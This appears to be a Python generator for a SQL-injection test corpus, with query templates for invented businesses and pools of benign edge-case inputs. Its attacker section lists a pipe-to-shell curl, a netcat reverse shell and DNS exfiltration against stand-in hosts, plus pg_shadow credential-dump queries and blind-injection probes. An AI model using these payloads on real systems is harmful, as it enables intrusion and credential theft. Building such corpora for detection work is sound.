 # steel-pan band -- Perl DBI, $dbh->do("...$v...") and selectall_arrayref
 ("t17_perldbi_pan_tuning", "SELECT pan_id, voice, note_count, last_tuned FROM steel_pans WHERE voice = '{a}' AND last_tuned < current_date - {b} ORDER BY last_tuned NULLS FIRST",
  {"a": S("q", ["double seconds", "tenor"]), "b": S("n", ["180", "90"])}),
 ("t17_perldbi_setlist_purge", "DELETE FROM gig_setlists s USING gigs g WHERE s.gig_id = g.gig_id AND g.venue = '{a}' AND g.played_on < '{b}' RETURNING s.tune",
  {"a": S("q", ["Notting Hill", "Queen's Park Savannah"]), "b": S("q", ["2024-01-01", "2025-03-01"], "date")}),
 ("t17_perldbi_tune_insert", "INSERT INTO tunes (title, arranger, tempo_bpm, pan_parts) VALUES ('{a}', '{b}', {c}, ARRAY['{d}']::text[])",
  {"a": S("q", ["Pan in A Minor", "Mystery Band"]), "b": S("q", ["Len 'Boogsie' Sharpe", "J. Phillips"]), "c": S("n", ["126", "132"]), "d": S("q", ["tenor", "cello"])}),
 ("t17_perldbi_listen", "LISTEN pan_{a}",
  {"a": S("ident", ["rehearsal", "gig_changes"])}),
 ("t17_perldbi_attendance_rollup", "SELECT section, player, sum(minutes) AS mins FROM rehearsal_attendance WHERE rehearsed_on BETWEEN '{a}' AND '{b}' GROUP BY ROLLUP (section, player) ORDER BY {c}",
  {"a": S("q", ["2025-01-01", "2024-09-01"], "date"), "b": S("q", ["2025-06-30", "2024-12-31"], "date"), "c": S("col", ["section, player", "mins DESC", "player NULLS LAST"])}),
 # eel fishery -- R DBI, dbGetQuery(con, paste0(...))
 ("t17_rdbi_elver_counts", "SELECT trap_id, sum(elvers) AS total FROM elver_counts WHERE river = '{a}' AND counted_on >= '{b}' GROUP BY trap_id HAVING sum(elvers) > {c}",
  {"a": S("q", ["Severn", "Shannon"]), "b": S("q", ["2025-03-01", "2024-02-15"], "date"), "c": S("n", ["100", "2500"])}),
 ("t17_rdbi_tag_lateral", "SELECT t.pit_tag, t.length_mm, r.recaptured_at FROM eel_tags t LEFT JOIN LATERAL (SELECT recaptured_at FROM recaptures x WHERE x.pit_tag = t.pit_tag ORDER BY recaptured_at DESC LIMIT 1) r ON true WHERE t.pit_tag = '{a}'",
  {"a": S("q", ["982000411223344", "3D9.1C2D5A7F01"], "pit")}),
 ("t17_rdbi_weir_median", "SELECT weir, percentile_cont(0.5) WITHIN GROUP (ORDER BY flow_m3s) AS median_flow FROM weir_flows WHERE read_on >= '{a}'::date - {b} GROUP BY weir",
  {"a": S("q", ["2025-04-30", "2024-10-01"], "date"), "b": S("n", ["30", "7"])}),
 ("t17_rdbi_quota_values", "SELECT v.licence, q.kg_allowed FROM (VALUES ('{a}'), ('{b}')) AS v(licence) JOIN eel_quotas q ON q.licence = v.licence",
  {"a": S("q", ["EEL-0042", "IE-77/B"]), "b": S("q", ["EEL-0107", "IE-12/A"])}),
 ("t17_rdbi_search_path", "SET search_path TO {a}, public",
  {"a": S("ident", ["fishery_2025", "staging"])}),
 # saffron farm -- Metabase native questions ({{var}} inlined) and Grafana panels (template variables)
 ("t17_metabase_stigma_yield", "SELECT \"public\".\"crocus_beds\".\"bed\" AS \"bed\", sum(\"public\".\"stigma_harvest\".\"grams\") AS \"sum\" FROM \"public\".\"stigma_harvest\" LEFT JOIN \"public\".\"crocus_beds\" ON \"public\".\"stigma_harvest\".\"bed_id\" = \"public\".\"crocus_beds\".\"id\" WHERE \"public\".\"crocus_beds\".\"grade\" = '{a}' GROUP BY \"public\".\"crocus_beds\".\"bed\" ORDER BY \"sum\" DESC LIMIT 2000",
  {"a": S("q", ["Sargol", "Negin"])}),
 ("t17_metabase_corm_window", "SELECT * FROM corm_plantings WHERE planted_on BETWEEN '{a}' AND '{b}' AND supplier_id IN ({c}) LIMIT 2000",
  {"a": S("q", ["2025-08-01", "2024-07-15"], "date"), "b": S("q", ["2025-09-30", "2024-09-01"], "date"), "c": S("list", ["4, 9", "12"])}),
 ("t17_grafana_drying_rooms", "SELECT floor(extract(epoch from read_at)/300)*300 AS \"time\", avg(temp_c) AS \"drying temp\" FROM drying_room WHERE read_at BETWEEN '2025-10-28T00:00:00Z' AND '2025-10-29T00:00:00Z' AND room IN ('{a}') GROUP BY 1 ORDER BY 1",
  {"a": S("q", ["kiln A", "room-2"])}),
 ("t17_grafana_humidity_regex", "SELECT read_at AS \"time\", humidity FROM drying_room WHERE room ~ '^({a})$' AND read_at > now() - interval '{b}'",
  {"a": S("q", ["kiln A|room-2", "room-1"], "regex"), "b": S("q", ["6h", "2 days"], "interval")}),
 ("t17_grafana_date_bin", "SELECT date_bin('{a}', read_at, TIMESTAMP '2025-01-01') AS \"time\", max(humidity) FROM drying_room GROUP BY 1 ORDER BY 1",
  {"a": S("q", ["15 minutes", "1 hour"], "interval")}),
 # music-box restorer -- PostgREST (RPC and filters) and Hasura (run_sql API, generated SQL)
 ("t17_postgrest_rpc_pins", "WITH pgrst_source AS (SELECT \"pgrst_call\".* FROM \"api\".\"cylinder_pins\"(\"movement_id\" := '{a}'::int, \"comb_teeth\" := '{b}'::int) pgrst_call) SELECT null::bigint AS total_result_set, pg_catalog.count(_postgrest_t) AS page_total, coalesce(json_agg(_postgrest_t), '[]') AS body, nullif(current_setting('response.headers', true), '') AS response_headers FROM (SELECT * FROM pgrst_source) _postgrest_t",
  {"a": S("q", ["1881", "42"], "count", "::int) pgrst_call) SELECT 1"), "b": S("q", ["72", "144"], "count", "::int) pgrst_call) SELECT 1")}),
 ("t17_postgrest_combs", "SELECT \"api\".\"combs\".* FROM \"api\".\"combs\" WHERE \"api\".\"combs\".\"maker\" = '{a}' AND \"api\".\"combs\".\"teeth\" >= {b} ORDER BY \"api\".\"combs\".\"{c}\" DESC LIMIT 50 OFFSET 0",
  {"a": S("q", ["Reuge", "Nicole Frères"]), "b": S("n", ["50", "72"]), "c": S("qi", ["teeth", "made_year"])}),
 ("t17_hasura_add_column", "ALTER TABLE movements ADD COLUMN IF NOT EXISTS {a} text",
  {"a": S("ident", ["spring_note", "governor_state"])}),
 ("t17_hasura_index_conc", "CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_movements_{a} ON movements ({b})",
  {"a": S("ident", ["maker", "year"]), "b": S("ident", ["maker", "made_year"], "", ")")}),
 ("t17_hasura_tune_sheets", "SELECT coalesce(json_agg(\"root\"), '[]') AS \"root\" FROM (SELECT row_to_json((SELECT \"_e\" FROM (SELECT \"_root.base\".\"title\" AS \"title\", \"_root.base\".\"bars\" AS \"bars\") AS \"_e\")) AS \"root\" FROM (SELECT * FROM \"public\".\"tune_sheets\" WHERE ((\"public\".\"tune_sheets\".\"composer\") = ('{a}'))) AS \"_root.base\") AS \"_root\"",
  {"a": S("q", ["Offenbach", "Strauss II"], "", "))) AS \"_root.base\") AS \"_root\"")}),
 ("t17_hasura_prepare_exec", "PREPARE box_by_serial(text) AS SELECT * FROM music_boxes WHERE serial = $1; EXECUTE box_by_serial('{a}')",
  {"a": S("q", ["MB-18813", "Reuge 4/72"])}),
 # jai-alai fronton -- a pgAdmin-like admin console (query tool and maintenance dialogs)
 ("t17_pgadmin_vacuum", "VACUUM (FREEZE, VERBOSE) fronton.{a}",
  {"a": S("ident", ["pelotari_stats", "cesta_orders"])}),
 ("t17_pgadmin_analyze_cols", "ANALYZE VERBOSE fronton.cesta_orders ({a})",
  {"a": S("ident", ["wicker_grade", "ordered_on"], "", ")")}),
 ("t17_pgadmin_grant_to", "GRANT SELECT ON TABLE fronton.pelotari_stats TO \"{a}\"",
  {"a": S("qi", ["scout_ro", "league office"])}),
 ("t17_pgadmin_cancel_idle", "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename = '{a}' AND state = 'active' AND query_start < now() - interval '{b}'",
  {"a": S("q", ["fronton_app", "quiniela_worker"]), "b": S("q", ["5 minutes", "30 seconds"], "interval")}),
 ("t17_pgadmin_column_comment", "COMMENT ON COLUMN fronton.matches.chistera_size IS E'{a}'",
  {"a": S("e", ["cesta length in cm\\n(measured tip to glove)", "see rulebook §4"])}),
 ("t17_pgadmin_lock_mode", "LOCK TABLE fronton.{a} IN {b} MODE NOWAIT",
  {"a": S("ident", ["quiniela_bets", "matches"]), "b": S("ident", ["SHARE", "ROW EXCLUSIVE"])}),
 ("t17_pgadmin_bet_edit", "UPDATE fronton.quiniela_bets SET stake = {a}, settled = true WHERE bet_id = {b} RETURNING *",
  {"a": S("n", ["20", "7.5"]), "b": S("n", ["33012", "4"])}),
 # kombucha brewery -- Flyway and Liquibase migrations with ${placeholders} from the deploy configuration
 ("t17_flyway_scoby_schema", "CREATE TABLE {a}.scoby_hotels (id bigserial PRIMARY KEY, vessel text NOT NULL, started_on date); GRANT SELECT ON {a}.scoby_hotels TO brew_reader",
  {"a": S("ident", ["brewery", "staging_brew"])}),
 ("t17_flyway_seed_flavour", "INSERT INTO flavours (code, name, second_ferment_days) VALUES ('{a}', '{b}', {c}) ON CONFLICT (code) DO NOTHING",
  {"a": S("q", ["GGR", "HIB-2"]), "b": S("q", ["ginger & turmeric", "hibiscus rose"]), "c": S("n", ["3", "5"])}),
 ("t17_liquibase_tank_default", "COMMENT ON TABLE fermentation_tanks IS '{a}'; ALTER TABLE fermentation_tanks ALTER COLUMN target_ph SET DEFAULT {b}",
  {"a": S("q", ["primary ferment vessels", "stainless 500 L"]), "b": S("n", ["3.2", "2.9"])}),
 ("t17_liquibase_brin_index", "CREATE INDEX CONCURRENTLY idx_brews_{a} ON brews USING brin (bottled_at) WITH (pages_per_range = {b})",
  {"a": S("ident", ["bottled_at", "bottled"]), "b": S("n", ["32", "128"], "", ")")}),
 ("t17_flyway_role_timeout", "ALTER ROLE brew_app SET statement_timeout = '{a}'",
  {"a": S("q", ["15s", "2min"], "duration")}),
 ("t17_flyway_tasting_copy", "COPY tasting_notes (brew_id, taster, sweetness, note) FROM STDIN WITH (FORMAT csv, HEADER match, NULL '{a}')",
  {"a": S("q", ["NA", "\\N"], "nullstr")}),
 ("t17_flyway_do_grant", "DO $mig$ BEGIN EXECUTE format('GRANT USAGE ON SCHEMA %I TO brew_reader', '{a}'); END $mig$",
  {"a": S("d", ["brewery", "staging_brew"], "schema")}),
 ("t17_liquibase_fn_comment", "COMMENT ON FUNCTION brew_abv(numeric, numeric) IS $mig${a}$mig$",
  {"a": S("d", ["ABV from original and final gravity", "approximation: (OG - FG) * 131.25"])}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t17_hibernate_gang_purge", "t17_perldbi_setlist_purge", "t17_pony_order_lines", "t17_metabase_stigma_yield"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t17_hibernate_repair_update": ["approved_by", "invoice_total", "is_warranty"], "t17_diesel_pick_update": ["reviewed", "analyst_role", "locked"],
             "t17_typeorm_ph_update": ["\"approved\"", "\"owner_id\""], "t17_ci_theme_update": ["\"winner\"", "\"prize_eur\"", "\"judge_override\""],
             "t17_pgadmin_bet_edit": ["payout", "account_id", "odds"], "t17_sequelize_batch_savepoint": ["\"ownerId\"", "\"qcPassed\""]}
TAG = "$mig$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Shea", "three word value", "2029-12-01", "50%", "don't"], "e": ["v", "", "it's", "C:\\logs\\x", "tab\there", "l1\nl2"],
         "d": ["v", "", "o'clock", "\"x\""], "qi": ["v", "Say \"Hi\"", "has space"], "n": ["5", "0", "-8", "3.25", "4500000", "0.75"],
         "list": ["5", "5, 6", "7,8,9", "1, 2, 3, 4, 5"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "LISTEN", "TABLE", "DO", "RANGE", "PARTITION", "TABLESAMPLE", "REPEATABLE", "IS", "EXECUTE", "BETWEEN_", "MATCHED")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE")


def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    """corpus_kit.slot_facts, with lead the first word of the statement the
    slot is in, and: in a VALUES row (row shape), in an UPDATE's SET list
    (column), whether a condition can be appended, whether that statement
    is a query, DML, second-order, and where the slot sits (a function's
    arguments, a window frame, an array subscript, a JSON key)."""
    info = corpus_kit.slot_facts(tpl, slot, CLOSER, CLAUSES, limit_clauses=("LIMIT", "OFFSET", "FETCH"))
    pre, post, toks, rest = corpus_kit.slot_split(tpl, slot, CLOSER)
    cut = max([i + 1 for i, t in enumerate(toks) if t[0] == ";"] or [0])
    lead = next((v for k, v in toks[cut:] if k == "W"), "")
    clause = info["clause"]
    sp = tpl[2][slot]
    shape = row_shape(tpl, slot) if clause == "VALUES" and info["closers"] == ")" else None
    in_set = lead == "UPDATE" and clause == "SET"
    frame = clause in ("RANGE", "PARTITION") or " ROWS BETWEEN " in pre[-40:]
    info.update({"lead": lead, "in_values": "VALUES" in info["ctx"] or clause == "VALUES", "row": shape, "in_set": in_set,
                 "set_col": set_column(tpl, slot) if in_set else None, "cond_cut": sp[4],
                 "cond_ok": (clause in COND_CLAUSES or (in_set and not info["closers"])) and lead not in NO_EXPR_LEADS and not frame,
                 "select": lead in ("SELECT", "WITH") and not frame and clause not in ("TABLESAMPLE", "REPEATABLE"),
                 "dml": lead in ("INSERT", "UPDATE", "DELETE"), "second_order": tpl[0] in SECOND_ORDER, "in_do": lead == "DO",
                 "frame": frame, "subscript": pre.endswith("["), "jkey": info["kind"] == "jkey",
                 "interval_kw": pre.rstrip("'").rstrip().upper().endswith("INTERVAL")})
    if frame:
        info["in_order"] = False
    return info


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Siân O'Rourke", "Dai's Walling Gang", "Ma'ake Tupou", "Teifi's Coracles", "Rhiannon ap Ifan's bed", "L'Anse aux Meadows",
   "Côte d'Ivoire Pepper Co.", "O'Hare-Bhatt", "Lough Neagh's eel co-op", "St David's Fronton", "Jordi d'Urgell", "Pa'u Kamakau",
   "Wai'oli Ferments", "Shaw's Bog 3", "D'Oyly Carte", "Ó Dálaigh", "N'Goma Pan Side", "Port d'Envaux", "Chiang Mai's Chilli Farm",
   "Ma'alaea Bay", "Dell'Orto", "Trinidad's Renegades", "Glynn's Quarry", "d'Estaing", "Ní Bhriain's saffron", "Ka'ena Point sand team"],
 "input_plain": ["buck and doe", "through stone", "hearting", "batter frame", "cock and hen", "funicular", "counterweight", "passing loop",
   "haul rope", "sheave", "aftershock", "P wave", "broadband", "seismometer", "ice block", "snow gun", "chamber", "chisel", "scoby", "crock",
   "lacto ferment", "brine", "scotch bonnet", "transect", "flash train", "canopy", "glow worm", "willow rod", "calico", "ox hide", "paddle",
   "sand pile", "misting", "castle", "tenor pan", "double seconds", "cello pan", "elver", "fyke net", "weir", "glass eel", "crocus", "corm",
   "stigma", "drying kiln", "cylinder", "comb", "governor", "cesta", "pelota", "quiniela", "second ferment", "SCOBY hotel", "brew log"],
 "input_sql_words": ["Select Sauces Ltd", "DROP zone north", "Union Street Pan Side", "Order of the Coracle", "table-top walls", "Insert Coin Band",
   "Update Quarry", "the delete key", "Group by variety", "Where Eels Go", "Having Fun Ferments", "Between the Dunes", "Null Island Saffron",
   "CASE closed", "Limit 2 per customer", "join the co-op", "EXEC committee", "declare variety", "grant application", "truncate rods to 2 m",
   "or else kombucha", "and/or", "create a bed", "select * fans", "begin rehearsal", "commit to pan", "rollback tour", "sleep well SCOBY"],
 "input_url_email": ["https://bog.example.org/beds/14?season=2025", "walls@drystone.example", "ops+funi@summit-rail.example", "https://seismo.example.net/fdsnws/event/1/query?minmag=4",
   "ice.hotel@polar.example", "sauce-lab@fermentery.example", "https://fireflies.example/sightings?site=18&sp=Photinus", "rhian@coracle.example",
   "mailto:judges@sandfest.example", "https://panyard.example/setlist#tune-3", "eel.survey@riverfolk.example", "https://saffron.example/grafana/d/abc?var-room=kiln%20A",
   "restorer@musicbox.example", "http://fronton.example:8080/pgadmin4/browser/", "brew.ci@kombucha.example", "ftp://data.seismo.example/mseed/2025/"],
 "input_json_text": ["{\"hall\": \"main\"}", "{\"lit\": true, \"lux\": 40}", "[1, 2, 3]", "{\"pepper\": \"habanero\", \"shu\": 350000}",
   "{\"note\": \"it's \\\"fine\\\"\"}", "{}", "[]", "{\"beds\": [14, 15], \"flood\": null}", "{\"a\": {\"b\": {\"c\": 1}}}", "{\"tempo\": 126, \"key\": \"A minor\"}",
   "{\"teeth\": 72, \"maker\": \"Reuge\"}", "[{\"k\": \"v\"}]", "{\"unicode\": \"\\u00e9\"}"],
 "input_unicode": ["Ystradgynlais", "Llyn Tegid — north shore", "Ísafjörður", "Çağrı Öztürk", "Łódź sauce lab", "Ærøskøbing", "Šibenik dunes",
   "Ngāti Porou", "ʻŌlelo Hawaiʻi", "São Tomé cacao", "Ñandutí", "Ελληνική", "Кудымкар", "日本酒", "ครก", "سعفران", "זעפרן", "கடல்",
   "Zoë Kowalczyk", "Ēriks Bērziņš", "e\u0301clair", "Å\u030a double ring", "naïve café", "Đà Lạt", "ß and ẞ", "emoji 🌶️ heat", "Ǆemal"],
 "input_whitespace": ["  leading", "trailing  ", "two  spaces", "tab\there", "line\nbreak", "\tindented", " ", "a \t b", "crlf\r\nline", "nbsp\u00a0here",
   "   ", "x\u2003em space", "end\n"],
 "input_numeric_string": ["007", "0", "1e3", "3.14159", "-1", "+44", "1,000", "12.50", "0x1F", "1_000", "000123", "9999999999", "-0", "2.5e-3", "١٢٣"],
 "input_punctuation": ["!!!", "?", "a/b", "50% off", "#14", "C++", "(draft)", "[TBC]", "{x}", "a_b", "x*y", "@home", "~approx", "1/4\"", "semi;colon",
   "dash--dash", "slash/*star", "back\\slash", "pipe|pipe", "caret^", "amp & amp", "<tag>", "q\"uote", "`tick`", "$5", "$$", "€ 12"],
 "input_formatted": ["GB-WLS-2025-0042", "N 52°02′ W 4°28′", "+44 1239 710 000", "2025-W41", "ISO 9001:2015", "RB-14/2025", "SCOBY-0917-A",
   "v2.3.1-rc.2", "00:15:30.250", "1.5 kg ± 20 g", "AB12 CDE", "#FF7F50", "10×12 ft", "SHU 100k–350k"],
}
SENTS = ["Rebuilt 4 m of the wall after the ewes pushed it over; new through stones every metre.", "Car 2 ran slow past the passing loop -- check the haul rope tension.",
         "Aftershock sequence decays as expected (Omori p ~ 1.1); flagging for review.", "Block 57 had a white core; used it for the bar top instead.",
         "Crock 9: pH 3.4 after 12 days, kahm skimmed twice, smells right.", "Lots of flashing at the woodland edge after 21:30, J-pattern dominant.",
         "Calico needs a second coat of tar before Saturday's race.", "Misting crew: don't touch the castle on plot 14, it's 'finished'.",
         "Tenor pan 3 drifts flat on the C#; retune before carnival.", "Glass eels in the fyke net were mostly < 70 mm, counted by weight.",
         "Kiln A humidity spiked at 03:00; the door seal is worn.", "Comb tooth 41 replaced; governor fan rebalanced, plays 'Für Elise' cleanly.",
         "Pelotari asked for a shorter cesta (see rulebook section 4).", "Second ferment of the hibiscus batch over-carbonated; burp bottles daily.",
         "select the best beds -- drop the wet ones from the list; update later."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2019, 2027), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2021, 2026), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":00", ":30+00", "+01", "Z"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 48), r.choice(["hours", "minutes", "days", "seconds"])), "%d:%02d" % (r.randint(0, 9), r.randint(0, 59)),
                         "PT%dM" % r.randint(1, 90), "%dh" % r.randint(1, 24), "%d days %02d:00" % (r.randint(1, 6), r.randint(0, 23))]), "input_formatted"
    if knd == "duration":
        return r.choice(["%ds" % r.randint(1, 120), "%dmin" % r.randint(1, 15), "%dms" % r.choice([500, 750, 2000]), str(r.choice([0, 5000, 60000]))]), "input_formatted"
    if knd == "count":
        return str(r.randint(1, 400)), "input_numeric_string"
    if knd == "tsq":
        w = r.sample(["fruitworm", "frost", "sprinkler", "sanding", "flood", "bees", "rot", "harvest", "beds"], 2)
        return r.choice(["%s & %s" % tuple(w), "%s | %s" % tuple(w), "%s:*" % w[0], "!%s" % w[0], "%s <-> %s" % tuple(w)]), "input_formatted"
    if knd == "jpath":
        return r.choice(["$.channels[*].gain", "$.sensor.model", "$.channels[%d].sps" % r.randint(0, 3), "$.location.elevation_m", "$.** ? (@ > %d)" % r.randint(1, 99),
                         "strict $.datalogger.serial", "$.channels.size()"]), "input_formatted"
    if knd == "jkey":
        return r.choice(["chisel", "height_cm", "hall", "lit", "artist_note", "block_count", "carver"]), "input_plain"
    if knd == "json":
        k = r.choice(["hall", "lit", "theme", "blocks", "lux"])
        v = r.choice(['"main"', '"annex"', "true", "false", str(r.randint(1, 400)), '"Polar Bear"', "null"])
        return r.choice(['{"%s": %s}' % (k, v), '{"%s":%s}' % (k, v), '{"%s": [%s]}' % (k, v)]), "input_json_text"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["rhian", "orders", "Bryn.Jones", "river_folk"]), r.choice(["", "+web", ".2"]), r.choice(["coracle.example", "Example.COM", "mail.example.org"])), "input_url_email"
    if knd == "appname":
        return r.choice(["kiosk-summit-%d" % r.randint(1, 4), "turnstile.valley", "ops console", "fare-sync/%d.%d" % (r.randint(1, 3), r.randint(0, 9))]), "input_formatted"
    if knd == "delim":
        return r.choice([";", "|", "\t", ":", "^"]), "input_punctuation"
    if knd == "regex":
        return r.choice(["^J{2,}", "(dot)+dash", "kiln A|room-%d" % r.randint(1, 4), "^room-[0-9]+$", "[Pp]hoturis", "flash\\s+train"]), "input_formatted"
    if knd == "cidr":
        return r.choice(["192.0.2.0/24", "198.51.100.%d" % r.randint(1, 254), "2001:db8::/%d" % r.choice([32, 48, 64]), "203.0.113.0/%d" % r.choice([25, 26, 28])]), "input_formatted"
    if knd == "pit":
        return r.choice(["9820004%08d" % r.randint(0, 99999999), "3D9.1C2D%06X" % r.getrandbits(24)]), "input_formatted"
    if knd == "nullstr":
        return r.choice(["NA", "\\N", "", "null", "-"]), "input_punctuation"
    if knd == "schema":
        return r.choice(["brewery", "staging_brew", "brew_%d" % r.randint(2024, 2027), "analytics"]), "input_identifier"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("bog_growers", "login", "pw_hash", "bogmaster"), ("wall_clients", "email", "password", "estate@brackenhall.example"),
        ("funicular_staff", "badge_no", "pin_digest", "OP-01"), ("seismo_analysts", "username", "api_token", "duty_seismologist"),
        ("ice_guests", "email", "card_token", "vip@icehotel.example"), ("sauce_accounts", "login", "passhash", "headbrewer"),
        ("survey_volunteer", "handle", "password", "moth_ed"), ("coracle_customers", "email", "pw", "rhian@coracle.example"),
        ("festival_judges", "judge_code", "secret", "J1"), ("band_members", "nick", "password_md5", "captain"),
        ("eel_licensees", "licence", "portal_pw", "EEL-0042"), ("\"core_user\"", "email", "password", "admin@saffron.example"),
        ("api.users", "email", "pass", "restorer@musicbox.example"), ("fronton.bettors", "alias", "pin_hash", "txapeldun"), ("brew_ci_secrets", "name", "value", "REGISTRY_TOKEN")]
HOSTS = ["q7.oast.site", "x17.dnslog.example", "c2.exfil.example.com", "b1n.requestcatcher.example", "ping.leak-sink.example.net", "zz.canarytokens.example"]
IPS = ["203.0.113.177", "198.51.100.17", "192.0.2.117", "198.51.100.222"]
FILES = ["/etc/passwd", "/etc/group", "/proc/self/environ", "/proc/version", "/var/lib/postgresql/data/pg_hba.conf", "postgresql.auto.conf", "/home/postgres/.bash_history",
         "/etc/ssl/private/ssl-cert-snakeoil.key", "/srv/hasura/metadata.json", "/opt/metabase/metabase.db.mv.db", "/etc/grafana/grafana.ini", "/flyway/conf/flyway.conf",
         "current_logfiles", "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../../proc/self/status"]
CMDS = ["id -un", "uname -srm", "cat /etc/hostname", "env | base64 -w0", "whoami; pwd", "curl -fsSL http://c2.exfil.example.com/s | sh", "busybox nc 203.0.113.177 9001 -e sh",
        "nslookup $(whoami).x17.dnslog.example", "python3 -c 'import pty;pty.spawn(\"sh\")'", "ls -1 /srv", "df -h", "ss -tlnp"]
ROLES = ["postgres", "hasura", "metabase", "grafana_ro", "flyway", "app_user", "pgadmin", "authenticator"]
SECRET_EXPRS = ["(SELECT string_agg(usename || ':' || coalesce(passwd, ''), ';') FROM pg_shadow)", "(SELECT string_agg(array_to_string(umoptions, ','), ';') FROM pg_user_mappings)",
                "(SELECT string_agg(array_to_string(srvoptions, ','), ';') FROM pg_foreign_server)", "(SELECT query FROM pg_stat_activity WHERE pid <> pg_backend_pid() LIMIT 1)",
                "(SELECT string_agg(database || ' ' || array_to_string(user_name, ','), ';') FROM pg_hba_file_rules)", "current_setting('ssl_passphrase_command')",
                "(SELECT prosrc FROM pg_proc WHERE prosecdef LIMIT 1)", "(SELECT string_agg(policyname || ':' || coalesce(qual, ''), ';') FROM pg_policies)",
                "(SELECT value FROM brew_ci_secrets WHERE name = 'REGISTRY_TOKEN')", "(SELECT string_agg(evtname, ',') FROM pg_event_trigger)",
                "(SELECT count(*)::text FROM pg_largeobject_metadata)", "current_setting('hasura.user', true)", "inet_client_addr()::text"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_schemas(true)::text", "current_setting('data_directory')",
                     "current_setting('log_directory')", "current_setting('ssl_key_file')", "inet_server_port()::text", "txid_current()::text",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s LIMIT 1 OFFSET %d)" % (p, t, r.randint(0, 9)),
                     "(SELECT string_agg(%s || '=' || %s, ';') FROM %s)" % (u, p, t)] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 32)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
    return r.choice([
        ("position_gt", "position('%s' in %s) > %d" % (ch, x, pos)), ("left_eq", "left(%s, %d) = '%s'" % (x, 1, ch)), ("lpad_cmp", "lpad(%s, %d) > '%s'" % (x, pos, ch)),
        ("octet_length_between", "octet_length(%s) BETWEEN %d AND %d" % (x, pos, pos + 8)), ("reverse_right", "right(reverse(%s), 1) = '%s'" % (x, ch)),
        ("substr_ascii_ge", "ascii(substr(%s, %d, 1)) >= %d" % (x, pos, r.randint(48, 122))), ("regexp_like_fn", "regexp_like(%s, '^%s', 'i')" % (x, ch)),
        ("sha256_prefix", "left(encode(sha256(convert_to(%s, 'UTF8')), 'hex'), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("ilike_prefix", "%s ILIKE '%s%%'" % (x, ch)), ("char_length_gt", "char_length(%s) > %d" % (x, pos)),
        ("substring_regex", "substring(%s from '^.') = '%s'" % (x, ch)), ("btrim_changed", "btrim(%s, '%s') <> %s" % (x, ch, x)),
        ("strpos_reverse", "strpos(reverse(%s), '%s') = %d" % (x, ch, pos)), ("encode_hex_gt", "encode(convert_to(left(%s, 1), 'UTF8'), 'hex') > '%d'" % (x, r.randint(30, 79))),
        ("upper_range", "upper(left(%s, 1)) BETWEEN 'A' AND '%s'" % (x, r.choice("FMTZ"))), ("any_regexp_matches", "'%s' = ANY(regexp_split_to_array(left(%s, %d), ''))" % (ch, x, pos))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q%sq" % "".join(r.choice("zqxjkvbp") for _ in range(3))


DUMP = {"bog_growers": ["login", "pw_hash", "co_op_share"], "wall_clients": ["email", "password", "estate"], "seismo_analysts": ["username", "api_token"],
        "sauce_accounts": ["login", "passhash", "role"], "survey_volunteer": ["handle", "password", "region"], "festival_judges": ["judge_code", "secret"],
        "band_members": ["nick", "password_md5", "section"], "eel_licensees": ["licence", "portal_pw", "holder"], "core_user": ["email", "password", "is_superuser"],
        "brew_ci_secrets": ["name", "value"]}
GUESS_TABLES = ["users", "user", "admins", "auth", "passwords", "members", "customer", "accounts", "logins", "secrets", "core_user", "hdb_catalog.hdb_metadata"]


class Enc:
    """How a request spells strings and casts: CHR() by default, quotes under --no-escape, bare columns under --no-cast."""

    def __init__(self, r):
        x = r.random()
        self.switch = "--no-escape" if x < 0.25 else "--no-cast" if x < 0.35 else ""

    def s(self, v):
        return q(v) if self.switch == "--no-escape" else chrs(v)

    def cast(self, col):
        return col if self.switch == "--no-cast" else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def enumeration(r, o):
